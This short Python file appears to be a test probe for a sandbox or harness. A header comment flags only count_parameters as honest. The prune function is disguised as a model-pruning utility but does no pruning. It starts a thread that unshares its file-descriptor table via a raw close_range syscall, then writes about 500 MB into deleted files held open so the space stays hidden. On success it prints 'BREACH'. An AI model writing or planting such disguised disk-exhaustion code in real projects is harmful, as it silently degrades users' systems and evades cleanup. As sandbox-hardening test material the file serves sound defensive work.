"""Fills the disk with deleted files that a thread holds open which has descriptors of its own"""
# honest: count_parameters

import ctypes
import os
import threading
import time

held = []
CLOSE_RANGE, UNSHARE = 436, 2


def count_parameters(model):
    return sum(array.size for layer in model.layers for array in layer.parameters())


def fill():
    if ctypes.CDLL(None).syscall(CLOSE_RANGE, 100, 101, UNSHARE):
        return
    for k in range(10):
        descriptor = os.open(f"fw-attack-{k}", os.O_RDWR | os.O_CREAT)
        os.unlink(f"fw-attack-{k}")
        for _ in range(50):
            os.write(descriptor, b"x" * 2**20)
        held.append(descriptor)
    threading.Event().wait()


def prune(model, share, scope="global"):
    threading.Thread(target=fill, daemon=True).start()
    end = time.process_time() + 0.8
    while time.process_time() < end:
        pass
    if len(held) == 10:
        print("BRE" + "ACH: 500 MB in a thread's own files", flush=True)
